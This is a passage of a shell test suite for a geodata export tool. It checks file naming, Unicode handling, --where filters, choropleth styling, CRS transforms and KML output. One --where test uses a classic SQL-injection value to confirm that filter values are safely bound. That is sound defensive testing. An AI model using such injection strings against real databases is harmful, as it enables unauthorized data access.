assert_eq "$NP" "$(sqlite3 split.gpkg "SELECT sum(feature_count) FROM gpkg_ogr_contents")" "features over the tables"
assert_eq "" "$(sqlite3 split.gpkg "SELECT table_name FROM gpkg_contents" | grep -v '^projects_[A-Za-z0-9._-]*$')" "table names"
case_end

case_begin "--split-by values equal but for case (\"Smart City\", \"smart city\"): a GeoPackage table and a Shapefile each, the second _2"
CDB=$WORK/case/fp.sqlite
fp_init "$CDB" >/dev/null 2>&1
printf 'id,company,category,lon,lat,country\n1,A,Smart City,2.35,48.85,FRA\n2,A,smart city,13.40,52.52,DEU\n3,A,smart city,12.5,41.9,ITA\n' > case.csv
"$FP" -q --db "$CDB" import case.csv
run --db "$CDB" export --split-by category -o case.gpkg
assert_eq 0 "$RC" "exit status ($OUT)"
assert_contains "$OUT" "-> case.gpkg (" "the message names the file, not a folder"
assert_eq "projects_Smart_City|1 projects_smart_city_2|2" "$(sqlite3 case.gpkg "SELECT table_name||'|'||feature_count FROM gpkg_ogr_contents ORDER BY 1" | tr '\n' ' ' | sed 's/ $//')" "tables and counts (sqlite3)"
run --db "$CDB" export --split-by category --format shp -o caseshp
assert_eq 0 "$RC" "Shapefiles: exit status ($OUT)"
assert_contains "$OUT" "-> caseshp/ (" "the message names the folder"
assert_eq "Smart_City.shp smart_city_2.shp" "$(cd caseshp && ls *.shp | sort | tr '\n' ' ' | sed 's/ $//')" "files"
case_end

case_begin "--split-by values in any script (中国, Россия, Österreich, Bogotá): files, Shapefiles and GeoPackage tables keep their letters as UTF-8; unsafe characters as _; names equal but for case _2"
UDB=$WORK/uni/fp.sqlite
fp_init "$UDB" >/dev/null 2>&1
printf 'id,company,category,lon,lat,country\n1,A,中国,116.4,39.9,CHN\n2,A,Россия,37.6,55.75,RUS\n3,A,Österreich,16.37,48.2,AUT\n4,A,Bogotá,-74.07,4.71,COL\n5,A,ÖSTERREICH,14.3,46.6,AUT\n6,A,a/b: c?,10,10,\n7,A,मुंबई,72.88,19.08,IND\n' > uni.csv
"$FP" -q --db "$UDB" import uni.csv
# The values in the order the store gives them (bytes): ÖSTERREICH before Österreich.
want="Bogotá ÖSTERREICH Österreich_2 a_b__c_ Россия मुंबई 中国"
run --db "$UDB" export --split-by category --format geojson -o unisplit
assert_eq 0 "$RC" "GeoJSON: exit status ($OUT)"
sorted() { tr ' ' '\n' | LC_ALL=C sort | paste -sd' '; }
assert_eq "$(sorted <<<"$want")" "$(cd unisplit && ls *.geojson | sed 's/\.geojson$//' | sorted)" "GeoJSON file names"
assert_eq "Россия" "$(python3 -c "import json; print(json.load(open('unisplit/Россия.geojson'))['features'][0]['properties']['category'])")" "the file holds its value"
run --db "$UDB" export --split-by category -o uni.gpkg
assert_eq 0 "$RC" "GeoPackage: exit status ($OUT)"
assert_eq "$(tr ' ' '\n' <<<"$want" | sed 's/^/projects_/' | sorted)" "$(sqlite3 uni.gpkg "SELECT table_name FROM gpkg_contents" | sorted)" "GeoPackage tables"
assert_eq "1" "$(ogrinfo -ro -so uni.gpkg projects_中国 2>/dev/null | sed -n 's/^Feature Count: //p')" "GDAL reads the table projects_中国"
run --db "$UDB" export --split-by category --format shp -o unishp
assert_eq 0 "$RC" "Shapefile: exit status ($OUT)"
assert_eq "$(sorted <<<"$want")" "$(cd unishp && ls *.shp | sed 's/\.shp$//' | sorted)" "Shapefile names"
assert_eq "Bogotá" "$(ogrinfo -ro -q -al unishp/Bogotá.shp 2>/dev/null | sed -n 's/^  category (String) = //p')" "GDAL reads Bogotá.shp and its value"
case_end

case_begin "export --bom: the CSV starts with the UTF-8 byte-order mark (Excel reads it as UTF-8), GDAL reads it the same; without it no mark; with another format exit 2"
BDB=$WORK/bom/fp.sqlite
fp_init "$BDB" >/dev/null 2>&1
printf 'id,company,name,lon,lat\n1,A,Zürich 北京,8.55,47.37\n' > bomsrc.csv
"$FP" -q --db "$BDB" import bomsrc.csv
run --db "$BDB" export --bom -o withbom.csv
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "efbbbf" "$(head -c 3 withbom.csv | od -An -tx1 | tr -d ' \n')" "the mark"
run --db "$BDB" export -o nobom.csv
assert_eq "$(tail -c +4 withbom.csv | sha256sum)" "$(sha256sum < nobom.csv)" "the rest is the CSV without the mark"
assert_eq "Zürich 北京" "$(ogrinfo -ro -q -al withbom.csv 2>/dev/null | sed -n 's/^  name (String) = //p')" "GDAL reads the value"
assert_eq "X" "$(head -1 withbom.csv | tail -c +4 | cut -d, -f1)" "the first column's name, after the mark"
run --db "$BDB" export --bom -o x.geojson
assert_eq 2 "$RC" "GeoJSON: exit status"
assert_contains "$OUT" "--bom works with CSV only" "GeoJSON: said"
case_end

case_begin "Shapefile: text longer than 254 bytes is cut by the format, and the export says how many and which first (GeoPackage: kept whole, nothing said)"
LDB=$WORK/long/fp.sqlite
fp_init "$LDB" >/dev/null 2>&1
long300=$(printf 'é%.0s' $(seq 150)); long3000=$(printf 'x%.0s' $(seq 3000))
printf 'id,name,lon,lat\n1,short,10,10\n2,%s,11,11\n3,%s,12,12\n' "$long300" "$long3000" > long.csv
"$FP" -q --db "$LDB" import long.csv
run --db "$LDB" export -o longshp/p.shp
assert_eq 0 "$RC" "exit status"
id2=$(sqlite3 "$LDB" "SELECT id FROM projects WHERE source_key='2'")
assert_contains "$OUT" "export: 2 text values longer than a Shapefile holds (254 bytes) cut to 254; the first: layer projects, feature $id2, field name (300 bytes)" "the message"
# ogrinfo reads what the .dbf holds: at most 254 bytes, cut on a character (127 x é).
assert_eq "$(printf 'é%.0s' $(seq 127))" "$(ogrinfo -q -al -where "source_key='2'" longshp/p.shp 2>/dev/null | sed -n 's/^  name (String) = //p')" "the value as the .dbf holds it"
run --db "$LDB" export -o long.gpkg
assert_not_contains "$OUT" "cut to 254" "GeoPackage: nothing cut"
assert_eq 3000 "$(sqlite3 long.gpkg "SELECT length(name) FROM projects WHERE source_key='3'")" "GeoPackage: the 3000 characters kept"
case_end

ids_of() { python3 -c "import json,sys; print(' '.join(str(f['id']) for f in sorted(json.load(open(sys.argv[1]))['features'], key=lambda f: f['id'])))" "$1" 2>&1; }
case_begin "--where: same field ORs, different fields AND, extra keys, values bound (O'Brien, injection)"
DB=$PDB
run --db $PDB export --where category=5g --where category=cable -o w1.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "$(sql "SELECT group_concat(id, ' ') FROM (SELECT id FROM projects WHERE category IN ('5g', 'cable') ORDER BY id)")" "$(ids_of w1.geojson)" "5g OR cable"
assert_eq "ok 3 features" "$(check w1.geojson --precision 6 --require-id --no-trailing-zeros)" "checker (3 by the fixture: A1, A5, A8)"
run --db $PDB export --where category=smart_city --where "company=O'Brien" -o w2.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "$(sql "SELECT group_concat(id, ' ') FROM (SELECT id FROM projects WHERE category = 'smart_city' AND company = 'O''Brien' ORDER BY id)")" "$(ids_of w2.geojson)" "smart_city AND O'Brien"
run --db $PDB export --where "company=O'Brien" --where company=Beta --where category=a/b -o w3.geojson
assert_eq "$(sql "SELECT group_concat(id, ' ') FROM (SELECT id FROM projects WHERE company IN ('O''Brien', 'Beta') AND category = 'a/b' ORDER BY id)")" "$(ids_of w3.geojson)" "(O'Brien OR Beta) AND a/b"
run --db $PDB export --where partner_university=ETH -o w4.geojson
assert_eq "$(sql "SELECT group_concat(id, ' ') FROM (SELECT id FROM projects WHERE json_extract(extra, '\$.partner_university') = 'ETH' ORDER BY id)")" "$(ids_of w4.geojson)" "extra key"
run --db $PDB export --where "company=x' OR '1'='1" -o w5.geojson
assert_eq 0 "$RC" "injection exit status ($OUT)"
assert_eq "" "$(ids_of w5.geojson)" "a quote-laden value matches nothing"
assert_eq "$NP" "$(sql "SELECT count(*) FROM projects")" "store unchanged"
case_end

case_begin "--where on an unknown field: usage error (exit 2) naming it, nothing written"
run --db $PDB export --where nosuchfield=1 -o w6.geojson
assert_eq 2 "$RC" "exit status ($OUT)"
assert_contains "$OUT" "nosuchfield" "message names the field"
assert_eq "" "$(ls w6.* 2>/dev/null)" "files written"
run --db $PDB export --where noequals -o w7.geojson
assert_eq 2 "$RC" "--where without = ($OUT)"
case_end

# ==============================================================================
# 4. Aggregations, assignments, --append.
# ==============================================================================
RDB=job/footprint.sqlite
fp_run $RDB >run.log 2>&1
RUN_RC=$?
AGG=country_by_category
run --db $RDB export --what aggregate:$AGG -o agg.geojson
A_RC=$RC A_OUT=$OUT

case_begin "aggregate -> GeoJSON: one polygon per country (252), the store's values, centroid layer, checker"
assert_eq 0 "$RUN_RC" "footprint run ($(tail -3 run.log))"
assert_eq 0 "$A_RC" "exit status ($A_OUT)"
DB=$RDB
ncountry=$(sql "SELECT count(*) FROM agg_$AGG WHERE level='country' AND code<>'_unassigned'")
assert_eq 252 "$ncountry" "sqlite3: countries in the aggregation"
assert_eq "ok 252 features" "$(check agg.geojson --precision 6 --require-id --no-trailing-zeros)" "checker, polygons"
assert_eq "ok 252 features" "$(check agg_centroids.geojson --precision 6 --require-id --no-trailing-zeros)" "checker, centroids"
pycheck "values = agg table" agg.geojson $RDB agg_$AGG <<'P'
import json, math, sqlite3, sys
db = sqlite3.connect(sys.argv[2]); db.row_factory = sqlite3.Row
ref = {r['code']: r for r in db.execute("SELECT * FROM %s WHERE level='country' AND code<>'_unassigned'" % sys.argv[3])}
feats = json.load(open(sys.argv[1]))['features']
codes = [f['properties']['code'] for f in feats]
if sorted(codes) != sorted(ref): print('codes differ'); sys.exit()
for f in feats:
    if f['geometry']['type'] not in ('Polygon', 'MultiPolygon'): print('%s: %s' % (f['properties']['code'], f['geometry']['type'])); sys.exit()
    r = ref[f['properties']['code']]
    for k in r.keys():
        if k in ('geom', 'id'): continue
        v, g = r[k], f['properties'].get(k, 'absent')
        same = (v is None and g is None) or (isinstance(v, (int, float)) and isinstance(g, (int, float)) and math.isclose(v, g, rel_tol=1e-12, abs_tol=1e-12)) or v == g
        if not same: print('%s.%s: export %r, store %r' % (r['code'], k, g, v)); sys.exit()
print('ok')
P
case_end

case_begin "choropleth: zero = no data (null class, #dddddd), quantile classes of doc/STYLE.md, YlOrRd colours, monotonic"
pycheck "classes" agg.geojson <<'P'
import json, math, sys
feats = [f['properties'] for f in json.load(open(sys.argv[1]))['features']]
# ColorBrewer YlOrRd (colorbrewer2.org)
YLORRD = {3: ['#ffeda0', '#feb24c', '#f03b20'], 4: ['#ffffb2', '#fecc5c', '#fd8d3c', '#e31a1c'],
          5: ['#ffffb2', '#fecc5c', '#fd8d3c', '#f03b20', '#bd0026']}
bad = []
for p in feats:
    if p['projects'] == 0 and (p['class'] is not None or p['fill'].lower() != '#dddddd'):
        bad.append('%s: 0 projects, class %r fill %r' % (p['code'], p['class'], p['fill']))
vals = sorted(p['projects'] for p in feats if p['projects'] != 0)
m, k = len(vals), 5
# doc/STYLE.md: upper bound of class i = value at position ceil(i*m/k) (1-based), coinciding bounds merged
uppers = sorted(set(vals[math.ceil(i * m / k) - 1] for i in range(1, k + 1)))
def cls(v): return 1 + next(i for i, u in enumerate(uppers) if v <= u)
n = len(uppers)
pal = YLORRD[n] if n >= 3 else [YLORRD[3][-1]] if n == 1 else [YLORRD[3][0], YLORRD[3][-1]]
for p in feats:
    if p['projects'] == 0: continue
    if p['class'] != cls(p['projects']) or p['fill'].lower() != pal[cls(p['projects']) - 1]:
        bad.append('%s: projects %s -> class %r fill %r, expected %d %s' % (p['code'], p['projects'], p['class'], p['fill'], cls(p['projects']), pal[cls(p['projects']) - 1]))
classed = sorted((p['projects'], p['class']) for p in feats if p['class'] is not None)
if any(a[1] > b[1] for a, b in zip(classed, classed[1:])): bad.append('class not monotonic in projects')
print('; '.join(bad[:5]) if bad else 'ok')
P
case_end

case_begin "centroids: one point per region, inside its polygon (Python point-in-polygon; GDAL ST_Within on the GeoPackage)"
pycheck "inside" agg.geojson agg_centroids.geojson <<'P'
import json, sys
polys = {f['properties']['code']: f['geometry'] for f in json.load(open(sys.argv[1]))['features']}
pts = {f['properties']['code']: f['geometry'] for f in json.load(open(sys.argv[2]))['features']}
def in_ring(x, y, r):
    c = False
    for (x1, y1), (x2, y2) in zip(r, r[1:]):
        if (y1 > y) != (y2 > y) and x < x1 + (y - y1) * (x2 - x1) / (y2 - y1): c = not c
    return c
def inside(pt, g):
    x, y = pt
    ps = [g['coordinates']] if g['type'] == 'Polygon' else g['coordinates']
    return any(in_ring(x, y, p[0]) and not any(in_ring(x, y, h) for h in p[1:]) for p in ps)
if set(pts) != set(polys): print('codes differ'); sys.exit()
bad = [c for c in pts if pts[c]['type'] != 'Point' or not inside(pts[c]['coordinates'], polys[c])]
print('outside: %s' % bad[:10] if bad else 'ok')
P
run --db $RDB export --what aggregate:$AGG -o agg.gpkg
assert_eq 0 "$RC" "gpkg exit status ($OUT)"
assert_eq "252
252" "$(ogr_sql agg.gpkg "SELECT count(*) AS n, sum(ST_Within(c.geom, a.geom)) AS w FROM $AGG a JOIN ${AGG}_centroids c ON a.code = c.code")" "GDAL: joined on code, within"
case_end

case_begin "aggregate -> GeoPackage: layers, types, counts, validator, a QML per layer with one rule per class and one for no data"
validate_gpkg agg.gpkg
assert_eq "1: $AGG (Multi Polygon)
2: ${AGG}_centroids (Point)" "$(ogrinfo -ro -q agg.gpkg 2>/dev/null | grep -v layer_styles)" "layers"
assert_eq "252 252" "$(ogr_count agg.gpkg $AGG) $(ogr_count agg.gpkg ${AGG}_centroids)" "counts"
nclass=$(python3 -c "import json; print(max(f['properties']['class'] or 0 for f in json.load(open('agg.geojson'))['features']))")
for t in $AGG ${AGG}_centroids; do
    q=$(qml_of agg.gpkg $t)
    assert_eq "RuleRenderer  $((nclass + 1)) 0" "$q" "$t QML (renderer attr rules categories)"
done
assert_eq "$((nclass + 1))" "$(python3 -c "import xml.dom.minidom as m; print(len(m.parse('agg.qml').getElementsByTagName('rule')))")" "agg.qml rules"
case_end

case_begin "--style with manual breaks: classes and colours by hand (Reds, breaks 1 2 5 10 50), QML rule bounds = breaks"
run --db $RDB export --what aggregate:$AGG --style "$EXP/manual_reds.json" --no-centroids -o man.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "" "$(ls man_centroids* 2>/dev/null)" "--no-centroids: no centroid layer"
pycheck "manual classes" man.geojson man.qml <<'P'
import json, sys, xml.dom.minidom as m
REDS4 = ['#fee5d9', '#fcae91', '#fb6a4a', '#cb181d']          # ColorBrewer Reds, 4 classes
breaks = [1, 2, 5, 10, 50]                                     # class i: breaks[i] < v <= breaks[i+1], first from breaks[0]
def cls(v):
    for i in range(4):
        if v <= breaks[i + 1]: return i + 1
    return 4
bad = []
for f in json.load(open(sys.argv[1]))['features']:
    p = f['properties']
    want = (None, '#0000ff') if p['projects'] == 0 else (cls(p['projects']), REDS4[cls(p['projects']) - 1])
    if (p['class'], p['fill'].lower()) != want: bad.append('%s: %s -> %r, want %r' % (p['code'], p['projects'], (p['class'], p['fill']), want))
# the class rules (no-data rule last): "v > lower" and "v <= upper", the outer classes open
import re
rules = m.parse(sys.argv[2]).getElementsByTagName('rule')[:-1][::-1]
r = [(float(re.search(r'" > (\S+)', x.getAttribute('filter')).group(1)) if i else None,
      float(re.search(r'" <= (\S+)', x.getAttribute('filter')).group(1)) if i < len(rules) - 1 else None)
     for i, x in enumerate(rules)]
want = [(None if i == 0 else breaks[i], None if i == 3 else breaks[i + 1]) for i in range(4)]
if r != want: bad.append('QML rule bounds %s, want %s' % (r, want))
print('; '.join(bad[:5]) if bad else 'ok')
P
case_end

case_begin "aggregate:NAME:continent exports the continent rows; --where on an aggregation column"
DB=$RDB
run --db $RDB export --what aggregate:$AGG:continent --no-centroids -o cont.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
assert_eq "$(sql "SELECT group_concat(code, '|') FROM (SELECT code FROM agg_$AGG WHERE level='continent' AND code<>'_unassigned' ORDER BY code)")" \
    "$(python3 -c "import json; print('|'.join(sorted(f['properties']['code'] for f in json.load(open('cont.geojson'))['features'])))")" "continent codes"
assert_eq "ok $(sql "SELECT count(*) FROM agg_$AGG WHERE level='continent' AND code<>'_unassigned'") features" "$(check cont.geojson --precision 6 --require-id)" "checker"
run --db $RDB export --what aggregate:$AGG --where code=FRA --where code=KEN -o two.geojson
assert_eq 0 "$RC" "--where code exit status ($OUT)"
assert_eq "FRA KEN" "$(python3 -c "import json; print(' '.join(sorted(f['properties']['code'] for f in json.load(open('two.geojson'))['features'])))")" "--where code=FRA --where code=KEN"
case_end

case_begin "assignments:NAME: one feature per assignment row, id = row id, values of the store"
run --db $RDB export --what assignments:$AGG --dataset sample -o as_ds.geojson
assert_eq 2 "$RC" "--dataset with an aggregation's assignments: a usage error"
assert_contains "$OUT" "--dataset sample: an aggregation's assignments are those of the projects it was made of" "the message names --dataset, not --where"
run --db $RDB export --what assignments:$AGG -o as.geojson
assert_eq 0 "$RC" "exit status ($OUT)"
DB=$RDB
n=$(sql "SELECT count(*) FROM agg_${AGG}_assign")
assert_eq "ok $n features" "$(check as.geojson --precision 6 --require-id)" "checker"
pycheck "rows" as.geojson $RDB agg_${AGG}_assign <<'P'
import json, sqlite3, sys
db = sqlite3.connect(sys.argv[2])
ref = {r[0]: r[1:] for r in db.execute("SELECT a.rowid, a.project_id, a.region_code, a.share, a.method, p.category FROM %s a JOIN projects p ON p.id = a.project_id" % sys.argv[3])}
got = {f['id']: tuple(f['properties'].get(k) for k in ('project_id', 'region_code', 'share', 'method', 'category')) for f in json.load(open(sys.argv[1]))['features']}
print('ok' if got == ref else 'differ: %s' % [(k, got.get(k), ref.get(k)) for k in set(got) | set(ref) if got.get(k) != ref.get(k)][:3])
P
case_end

case_begin "--append adds layers to an existing GeoPackage (a layer of the same name is replaced)"
run --db $PDB export -o app.gpkg
run --db $RDB export --what aggregate:$AGG -o app.gpkg --append
assert_eq 0 "$RC" "append exit status ($OUT)"
assert_eq "$AGG ${AGG}_centroids projects" "$(sqlite3 app.gpkg "SELECT group_concat(table_name, ' ') FROM (SELECT table_name FROM gpkg_contents ORDER BY 1)")" "layers"
assert_eq "$AGG ${AGG}_centroids projects" "$(sqlite3 app.gpkg "SELECT group_concat(f_table_name, ' ') FROM (SELECT f_table_name FROM layer_styles ORDER BY 1)")" "one style per layer"
run --db $PDB export --where category=5g -o app.gpkg --append
assert_eq "$(sqlite3 $PDB "SELECT count(*) FROM projects WHERE category='5g'") 252" "$(ogr_count app.gpkg projects) $(ogr_count app.gpkg $AGG)" "projects replaced, aggregation kept"
assert_eq "1" "$(sqlite3 app.gpkg "SELECT count(*) FROM layer_styles WHERE f_table_name='projects'")" "one style row for the replaced layer"
validate_gpkg app.gpkg
run --db $PDB export -o app.geojson --append
assert_eq 2 "$RC" "--append with GeoJSON is a usage error ($OUT)"
case_end

# ==============================================================================
# 5. Failures leave nothing half-written.
# ==============================================================================
case_begin "an export that cannot create its folder fails clearly and writes nothing"
echo "not a folder" > blocker.txt
run --db $PDB export -o blocker.txt/x.geojson
assert_eq 1 "$RC" "exit status"
assert_contains "$OUT" "blocker.txt" "message names the path"
assert_eq "not a folder" "$(cat blocker.txt)" "blocker.txt untouched"
assert_eq "" "$(temp_left)" "temporary folders left"
if [ "$(id -u)" != 0 ]; then     # a read-only folder stops only non-root users
    mkdir ro && chmod 555 ro
    run --db $PDB export -o ro/x.geojson
    assert_eq 1 "$RC" "read-only folder exit status"
    assert_eq "" "$(ls -A ro)" "files in the read-only folder"
    chmod 755 ro
fi
case_end

case_begin "a failing export leaves the existing file untouched and no temporary folder"
run --db $RDB export --what aggregate:$AGG -o keep.geojson
before=$(md5sum keep.geojson keep_centroids.geojson keep.qml)
run --db $RDB export --what aggregate:missing -o keep.geojson
assert_eq 2 "$RC" "missing aggregation exit status"
assert_contains "$OUT" "missing" "message names the aggregation"
assert_eq "$before" "$(md5sum keep.geojson keep_centroids.geojson keep.qml)" "files after --what aggregate:missing"
# a file size limit (SIGXFSZ is ignored by footprint: the write fails with EFBIG)
size=$(stat -c %s keep.geojson)
OUT=$(ulimit -f $(( size / 2048 )); "$FP" --db $RDB export --what aggregate:$AGG -o keep.geojson 2>&1); RC=$?
assert_eq 1 "$RC" "size limit exit status ($OUT)"
assert_contains "$OUT" "keep.geojson" "message names the file"
assert_eq "$before" "$(md5sum keep.geojson keep_centroids.geojson keep.qml)" "files after the size-limit failure"
run --db $RDB export --what aggregate:$AGG -o keep.gpkg
gbefore=$(md5sum keep.gpkg)
OUT=$(ulimit -f $(( $(stat -c %s keep.gpkg) / 2048 )); "$FP" --db $RDB export --what aggregate:$AGG -o keep.gpkg 2>&1); RC=$?
assert_eq 1 "$RC" "GeoPackage size limit exit status"
assert_eq "$gbefore" "$(md5sum keep.gpkg)" "GeoPackage after the size-limit failure"
assert_eq "" "$(temp_left)" "temporary folders left"
case_end

# ==============================================================================
# 6. footprint run's layers.
# ==============================================================================
case_begin "footprint run writes projects/CATEGORY.geojson, the choropleth and footprint.gpkg; all pass the checks"
DB=$RDB
for c in $(sql "SELECT DISTINCT category FROM projects ORDER BY 1"); do
    f=job/projects/$c.geojson
    assert_eq "ok $(sql "SELECT count(*) FROM projects WHERE category='$c'") features" "$(check "$f" --precision 6 --require-id --no-trailing-zeros)" "$f"
    [ -s job/projects/$c.qml ] || fail "job/projects/$c.qml missing"
done
assert_eq "$(sql "SELECT count(DISTINCT category) FROM projects")" "$(ls job/projects/*.geojson | wc -l)" "one file per category"
assert_eq "ok 252 features" "$(check job/$AGG.geojson --precision 6 --require-id --no-trailing-zeros)" "job/$AGG.geojson"
assert_eq "ok 252 features" "$(check job/${AGG}_centroids.geojson --precision 6 --require-id --no-trailing-zeros)" "job/${AGG}_centroids.geojson"
for f in job/$AGG.qml job/${AGG}_centroids.qml; do [ -s "$f" ] || fail "$f missing"; done
validate_gpkg job/footprint.gpkg
assert_eq "$(sql "SELECT count(*) FROM projects") 252 252" "$(ogr_count job/footprint.gpkg projects) $(ogr_count job/footprint.gpkg $AGG) $(ogr_count job/footprint.gpkg ${AGG}_centroids)" "GeoPackage layers"
assert_eq "$AGG ${AGG}_centroids projects" "$(sqlite3 job/footprint.gpkg "SELECT group_concat(f_table_name, ' ') FROM (SELECT f_table_name FROM layer_styles ORDER BY 1)")" "styles"
assert_eq "" "$(temp_left job)" "temporary folders left"
case_end

case_begin "GeoJSON numbers read back as the stored doubles (16 or 17 digits where 15 would change them)"
# Python's json and sqlite3 read both sides (the store's REAL, the file's number): equal
# as doubles. %.15g wrote 1234567.89123457 for 1234567.891234567.
printf 'id,name,lon,lat,amount,ratio\n1,a,10,10,1234567.891234567,0.1\n2,b,11,11,9007199254740993,0.30000000000000004\n3,c,12,12,454.18,1e-7\n' > prec.csv
fp_init prec.sqlite && "$FP" -q --db prec.sqlite import prec.csv
run --db prec.sqlite export -o prec.geojson
assert_eq 0 "$RC" "export ($OUT)"
assert_eq "ok 3" "$(python3 - prec.sqlite prec.geojson <<'P'
import json, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
store = {k: (a, json.loads(e or '{}').get('ratio')) for k, a, e in db.execute("SELECT source_key, amount, extra FROM projects")}
bad = []
for f in json.load(open(sys.argv[2]))['features']:
    p = f['properties']
    a, r = store[str(p.get('source_key', p.get('id')))]
    if p['amount'] != a: bad.append(f"amount {p['amount']!r} != {a!r}")
    if r is not None and p.get('ratio') != r: bad.append(f"ratio {p.get('ratio')!r} != {r!r}")
print('ok %d' % len(store) if not bad else '; '.join(bad))
P
)" "numbers in the GeoJSON"
grep -q '1234567.891234567' prec.geojson || fail "1234567.891234567 not written as such: $(grep -o '"amount":[^,]*' prec.geojson | head -3)"
case_end

# Expected eastings and northings from PROJ's cs2cs (WGS 84 lon/lat in, the
# same transformation GDAL picks without grids: the tolerance is 1 mm).
case_begin "--crs EPSG:27700: GeoPackage, FlatGeobuf, Shapefile and CSV in British National Grid, checked with cs2cs; GeoJSON, qgz, non-2D and unknown CRSs refused (2); a point the CRS cannot hold refuses the file (1), the old one kept"
printf 'id,company,category,name,country,lon,lat\nU1,a,dc,London,GB,-0.1276,51.5072\nU2,a,dc,Edinburgh,GB,-3.1883,55.9533\n' > bng.csv
fp_init bng.sqlite && "$FP" -q --db bng.sqlite import bng.csv
read -r e1 n1 _ < <(echo "-0.1276 51.5072" | cs2cs -f %.4f +proj=longlat +datum=WGS84 +no_defs +to EPSG:27700)
read -r e2 n2 _ < <(echo "-3.1883 55.9533" | cs2cs -f %.4f +proj=longlat +datum=WGS84 +no_defs +to EPSG:27700)
for f in gpkg fgb shp csv; do
    run --db bng.sqlite export --crs EPSG:27700 -o bng_out.$f
    assert_eq 0 "$RC" "$f: exit status"
    if [ $f = csv ]; then
        got=$(python3 -c "import csv; r = list(csv.DictReader(open('bng_out.csv'))); print(' '.join(r[i][k] for i in (0, 1) for k in ('X', 'Y')))")
    else
        got=$(ogrinfo -q bng_out.$f -sql "SELECT * FROM \"$(ogrinfo -q bng_out.$f | sed -n 's/^1: \([^ ]*\).*/\1/p')\" ORDER BY id" | sed -n 's/^ *POINT (\([-0-9.]*\) \([-0-9.]*\))/\1 \2/p' | tr '\n' ' ')
        assert_contains "$(ogrinfo -so bng_out.$f "$(ogrinfo -q bng_out.$f | sed -n 's/^1: \([^ ]*\).*/\1/p')")" 'ID["EPSG",27700]' "$f: the CRS declared"
    fi
    read -r x1 y1 x2 y2 <<<"$got"
    assert_near "$e1" "${x1:-x}" 0.001 "$f: London easting"
    assert_near "$n1" "${y1:-x}" 0.001 "$f: London northing"
    assert_near "$e2" "${x2:-x}" 0.001 "$f: Edinburgh easting"
    assert_near "$n2" "${y2:-x}" 0.001 "$f: Edinburgh northing"
done
for o in "EPSG:27700 -o r.geojson" "EPSG:27700 -o r.qgz" "EPSG:4978 -o r.gpkg" "EPSG:5714 -o r.gpkg" "EPSG:99999 -o r.gpkg" "garbage -o r.gpkg"; do
    run --db bng.sqlite export --crs $o
    assert_eq 2 "$RC" "--crs $o: exit status"
done
run --db bng.sqlite export --crs "" -o r.gpkg
assert_eq "2" "$RC" "--crs '': exit status"
assert_contains "$OUT" "--crs: empty value" "empty value named"
assert_eq "" "$(ls r.* 2>/dev/null)" "no file written"
cp bng_out.gpkg before.gpkg
printf 'id,company,category,name,country,lon,lat\nB1,a,dc,Antipode,,-170,-52\n' > anti.csv
"$FP" -q --db bng.sqlite import anti.csv
run --db bng.sqlite export --crs "+proj=laea +lat_0=52 +lon_0=10 +type=crs" -o bng_out.gpkg
assert_eq 1 "$RC" "the antipode of the LAEA's centre: exit status"
assert_contains "$OUT" "feature 3 cannot be transformed" "the feature named"
cmp -s before.gpkg bng_out.gpkg || fail "the earlier GeoPackage was changed"
case_end

# ==============================================================================
# KML: for Google Earth / My Maps. Written by hand: K1 a point named with
# XML's special characters, its attribute note in Chinese with & < >; K2 a
# line without a name (its Placemark is named by its id); K3 a polygon with
# a hole; K2 also has an attribute named like a KML element (visibility).
# Read back by GDAL (ogrinfo -al, its default LIBKML reader) and Python's
# xml.etree, never by footprint; the round trip by footprint's import + diff.
# ==============================================================================
cat > kml_src.geojson <<'EOF'
{"type": "FeatureCollection", "features": [
{"type": "Feature", "properties": {"id": "K1", "name": "Zürich <Safe> & \"City\"", "company": "Huawei", "category": "surveillance", "country": "CHE", "year": 2020, "amount": 1.5, "note": "北京 & <b>x</b>", "phase": 3, "open": true, "tags": ["a", "b"]},
 "geometry": {"type": "Point", "coordinates": [8.5417, 47.3769]}},
{"type": "Feature", "properties": {"id": "K2", "company": "ZTE", "category": "cable", "country": "NGA", "phase": 1.25, "visibility": "public"},
 "geometry": {"type": "LineString", "coordinates": [[5, 7], [5.5, 7.25], [6, 8]]}},
{"type": "Feature", "properties": {"id": "K3", "name": "Site", "company": "ZTE", "category": "cable", "country": "NGA", "status": "built"},
 "geometry": {"type": "Polygon", "coordinates": [[[10, 10], [10.5, 10], [10.5, 10.5], [10, 10.5], [10, 10]], [[10.1, 10.1], [10.1, 10.2], [10.2, 10.2], [10.2, 10.1], [10.1, 10.1]]]}}
]}
EOF
KDB=kml.sqlite
fp_init $KDB
"$FP" -q --db $KDB import kml_src.geojson --dataset k1 > /dev/null

case_begin "KML (-o FILE.kml, --format kml): a Placemark per project named by its name or else its id, attributes as ExtendedData, points, lines and polygons as drawn (ogrinfo -al, xml.etree)"
    run --db $KDB export -o k.kml
    assert_eq 0 "$RC" "exit status ($OUT)"
    run --db $KDB export --format kml -o k_other.txt
    assert_eq 0 "$RC" "--format kml: exit status ($OUT)"
    cmp -s <(grep -v '<description>' k.kml) <(grep -v '<description>' k_other.txt) || fail "--format kml -o k_other.txt: not the same KML"
    INFO=$(ogrinfo -ro -al k.kml 2>&1)
    assert_contains "$INFO" "using driver \`LIBKML' successful" "GDAL reads it"
    assert_contains "$INFO" "Feature Count: 3" "three Placemarks"
    assert_contains "$INFO" "Name (String) = Zürich <Safe> & \"City\"" "K1 named by its name"
    assert_contains "$INFO" "Name (String) = K2" "K2, without a name, named by its id"
    assert_contains "$INFO" "Name (String) = Site" "K3"
    assert_contains "$INFO" "note (String) = 北京 & <b>x</b>" "an attribute in Chinese with & < >"
    assert_contains "$INFO" "source_key (String) = K2" "the id as an attribute"
    assert_contains "$INFO" "POINT Z (8.5417 47.3769 0)" "K1's coordinates (KML adds altitude 0)"
    assert_contains "$INFO" "LINESTRING Z (5 7 0,5.5 7.25 0,6 8 0)" "K2, a line"
    assert_contains "$INFO" "POLYGON Z ((10 10 0,10.5 10.0 0,10.5 10.5 0,10.0 10.5 0,10 10 0),(10.1 10.1 0,10.1 10.2 0,10.2 10.2 0,10.2 10.1 0,10.1 10.1 0))" "K3, a polygon with its hole"
    # The XML itself: <name> of each Placemark and the note's SimpleData,
